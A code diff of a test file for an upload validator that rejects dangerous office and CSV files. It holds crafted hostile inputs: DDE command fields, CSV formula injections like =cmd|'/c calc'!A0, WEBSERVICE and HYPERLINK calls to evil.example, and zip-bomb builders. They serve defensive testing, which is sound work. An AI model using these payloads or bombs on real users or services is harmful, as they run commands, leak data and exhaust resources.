@@ -4,7 +4,6 @@ must become of it. None of them does harm here; each is the beginning of one tha
 
 from __future__ import annotations
 
-import io
 import struct
 import zipfile
 import zlib
@@ -13,12 +12,14 @@ from dataclasses import dataclass
 
 from accountability.files.inspection import EXTENSIONS
 from tests.accountability.files import made_files
+from tests.accountability.files.packages import bomb, deep_bombs, locked, lying, many_parts, nested, zipped
 
 NOT_TAKEN = f"不接受这种文件，可用：{' '.join(EXTENSIONS)}"
 MISMATCH = "内容与扩展名不符"
 PAGE = "文件中夹有网页或脚本"
 ACTIVE = "文件含有宏、控件或内嵌对象"
 OUTSIDE = "文件引用了外部模板或文件，请断开链接后另存"
+LINKS = "单元格中的链接公式（HYPERLINK）会隐去真实地址，请改为直接写出网址"
 STARTS = "文件中的域或公式会启动程序或读取外部内容"
 BROKEN = "文件已损坏"
 LARGE = "文件解压后过大"
@@ -76,51 +77,6 @@ LAUGHS = (
 W = b'<w:document xmlns:w="w">'
 
 
-def zipped(parts: dict[str, bytes], *, comment: bytes = b"", method: int = zipfile.ZIP_DEFLATED) -> bytes:
-    file = io.BytesIO()
-    with zipfile.ZipFile(file, "w", method) as package:
-        for name, content in parts.items():
-            package.writestr(name, content)
-        package.comment = comment
-    return file.getvalue()
-
-
-def nested(levels: int = 5, each: int = 16) -> bytes:
-    """Like 42.zip: packages full of packages."""
-    inner = zipped({"0": bytes(4_000_000)})
-    for _level in range(levels):
-        inner = zipped({str(number): inner for number in range(each)})
-    return inner
-
-
-def bomb(megabytes: int, part: str = "word/media/a.bmp") -> bytes:
-    """A document with a part of nothing, many times as large as the file."""
-    file = io.BytesIO(made_files.docx())
-    with zipfile.ZipFile(file, "a", zipfile.ZIP_DEFLATED) as package, package.open(part, "w") as opened:
-        for _megabyte in range(megabytes):
-            opened.write(bytes(1024 * 1024))
-    return file.getvalue()
-
-
-def lying(content: bytes) -> bytes:
-    """A package whose list says that its largest part is small."""
-    size = max(part.file_size for part in zipfile.ZipFile(io.BytesIO(content)).infolist())
-    return content.replace(struct.pack("<I", size), struct.pack("<I", 9))
-
-
-def many_parts() -> bytes:
-    return made_files.docx({f"word/{number}.xml": b"" for number in range(5001)})
-
-
-def locked(content: bytes) -> bytes:
-    """Its first part marked as encrypted, in its head and in the list."""
-    found = bytearray(content)
-    found[6] |= 1
-    listed = content.index(b"PK\x01\x02")
-    found[listed + 8] |= 1
-    return bytes(found)
-
-
 def chunked(name: bytes, data: bytes) -> bytes:
     """A picture with one more chunk."""
     whole = made_files.png()
@@ -153,6 +109,16 @@ def field(*pieces: bytes) -> bytes:
     """A field whose code is cut over several runs."""
     runs = b"".join(b"<w:r><w:instrText>" + piece + b"</w:instrText></w:r>" for piece in pieces)
     return b'<w:r><w:fldChar w:fldCharType="begin"/></w:r>' + runs + b'<w:r><w:fldChar w:fldCharType="end"/></w:r>'
+
+
+BEGIN_D = b'<w:r><w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText></w:r>'
+DE_END = b'<w:r><w:instrText>DE cmd</w:instrText><w:fldChar w:fldCharType="end"/></w:r>'
+TWO_PREFIXES = b'<w:fldSimple w:instr="DDE cmd" x:instr="PAGE" xmlns:x="x"/>'
+
+
+def elsewhere() -> bytes:
+    part = {"word/a.bin": W + field(b"DDE x") + b"</w:document>"}
+    return made_files.docx(part, made_files.overridden("word/a.bin", made_files.WORD))
 
 
 def linked(kind: str, target: str, mode: str = "External") -> bytes:
@@ -367,6 +333,11 @@ def _documents() -> Iterator[Nasty]:
     yield Nasty(
         "docx that includes", "a.docx", as_is(words_with(field(b'INCLUDEPICTURE "http://evil.example/a"'))), STARTS
     )
+    yield Nasty("docx with DDE after blanks", "a.docx", as_is(words_with(field(b" " * 300, b"DDE cmd"))), STARTS)
+    yield Nasty("docx with DDE round a field", "a.docx", as_is(words_with(BEGIN_D + field(b"x") + DE_END)), STARTS)
+    yield Nasty("docx with DDE under two prefixes", "a.docx", as_is(words_with(TWO_PREFIXES)), STARTS)
+    yield Nasty("docx with DDE raw", "a.docx", as_is(words_with(field(b"<![CDATA[DDE cmd]]>"))), STARTS)
+    yield Nasty("docx with its words under another ending", "a.docx", elsewhere, STARTS)
     yield Nasty(
         "docx with DDE in its foot",
         "a.docx",
@@ -446,6 +417,17 @@ def _workbooks() -> Iterator[Nasty]:
     yield Nasty("csv with DDE", "a.csv", as_is("姓名,备注\n甲,=cmd|'/c calc'!A0\n".encode()), STARTS)
     yield Nasty("csv with DDE in quotes", "a.csv", as_is(b"a,\"@SUM(1)+cmd|'/c calc'!A0\"\n"), STARTS)
     yield Nasty("csv that asks a server", "a.csv", as_is(b'a,+WEBSERVICE("http://evil.example")\n'), STARTS)
+    yield Nasty("csv with a link", "a.csv", as_is(b'a,"=HYPERLINK(""http://evil.example/""&A1,""x"")"\n'), LINKS)
+    yield Nasty(
+        "csv with a link after blanks", "a.csv", as_is('a;  ＝hyperlink （"http://evil.example"）\n'.encode()), LINKS
+    )
+    yield Nasty("csv that fetches a picture", "a.csv", as_is(b'a\t=IMAGE("http://evil.example")\n'), STARTS)
+    yield Nasty(
+        "csv that asks late", "a.csv", as_is(b'"=1&' + b'""x""&' * 300 + b'WEBSERVICE(""http://evil"")"\n'), STARTS
+    )
+    yield Nasty("csv that asks on a second line", "a.csv", as_is(b'"=1&\nWEBSERVICE(""http://evil"")"\n'), STARTS)
+    yield Nasty("csv with the name of a function", "a.csv", as_is("用 HYPERLINK (x) 写,-1\n".encode()), None)
+    yield Nasty("csv with a formula made a text", "a.csv", as_is(b"a,'=HYPERLINK(1)\n"), None)
     yield Nasty("csv with a dash", "a.csv", as_is("时间,内容\n10:00,- 来电 | 未接！\n".encode()), None)
     yield Nasty("csv of a page", "a.csv", as_is(HTML), MISMATCH)
 
@@ -453,10 +435,13 @@ def _workbooks() -> Iterator[Nasty]:
 def _bombs() -> Iterator[Nasty]:
     yield Nasty("packages in packages", "a.docx", nested, MISMATCH)
     yield Nasty("a part of 300 MB", "a.docx", lambda: bomb(300), LARGE)
-    yield Nasty("a part of 150 MB", "a.docx", lambda: bomb(150), None)
-    yield Nasty("words of 100 MB", "a.docx", lambda: bomb(100, "word/large.xml"), BROKEN)
+    yield Nasty("a part of 150 MB", "a.docx", lambda: bomb(150), LARGE)
+    yield Nasty("words of 100 MB", "a.docx", lambda: bomb(100, "word/large.xml"), LARGE)
     yield Nasty("a list of 20 MB", "a.docx", lambda: bomb(20, "word/_rels/large.xml.rels"), LARGE)
     yield Nasty("a part that lies", "a.docx", lambda: lying(bomb(30, "word/large.xml")), BROKEN)
+    yield Nasty("packages that are many bombs", "a.docx", deep_bombs, LARGE)
+    yield Nasty("193 KB of 198 MB", "a.docx", lambda: bomb(189, "word/media/a.png"), LARGE)
+    yield Nasty("packed by LZMA", "a.docx", lambda: zipped({"a": bytes(9)}, method=zipfile.ZIP_LZMA), BROKEN)
     yield Nasty("many parts", "a.docx", many_parts, LARGE)
 
 
